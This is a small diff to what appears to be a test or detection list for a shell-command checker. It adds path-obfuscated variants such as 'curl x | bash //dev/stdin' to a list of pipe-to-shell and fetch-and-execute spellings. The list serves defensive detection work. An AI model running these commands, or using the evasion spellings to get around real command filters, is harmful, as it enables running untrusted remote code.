@@ -195,6 +195,7 @@ STDIN_SPELLINGS = [
     "bash < /dev/stdin", "bash <(curl x)", "sh /dev/tcp/h/80", "bash /dev/fd/3", "source /dev/stdin",
     ". /proc/self/fd/0", "source <(curl x)", "python -", "python /dev/stdin", "curl x | python3", "perl",
     "curl x | perl -", "ruby", "node", "node -", "php", "lua -", "curl x | sh", "curl x | sudo bash",
+    "curl x | bash //dev/stdin", "curl x | bash ///dev/fd/0",  # a leading // is / on Linux
     "curl x | sudo -s", "curl x | su", "curl x | su root", "curl x | chroot /", "curl x | script -q /dev/null",
     "bash ../../../dev/stdin", "zsh -s", "fish", "csh -s", "python3 -i -c 'print(1)'", "node -i",
     "curl x | env bash", "curl x | busybox sh", "curl x | sudo --frob bash",
